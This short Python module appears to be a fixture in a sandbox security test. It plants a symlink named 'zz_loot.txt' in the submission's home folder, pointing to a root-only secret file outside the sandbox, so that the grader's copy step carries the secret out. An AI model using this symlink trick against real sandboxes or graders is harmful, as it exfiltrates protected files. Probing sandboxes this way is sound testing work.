"""Imported by main.py: in the app's sandbox, a link from the submission's own folder (the
sandbox's copy, its HOME) to the secret file the test names (root-only, outside the
sandbox), for the grader to copy."""

import os
from pathlib import Path

home = Path(os.environ.get("HOME", "."))
if (home / "target.txt").is_file():
    secret = (home / "target.txt").read_text().split()[3]
    link = home / "zz_loot.txt"
    if not link.is_symlink():
        try:
            os.symlink(secret, f"{link}.new")
            os.replace(f"{link}.new", link)
        except OSError:
            pass
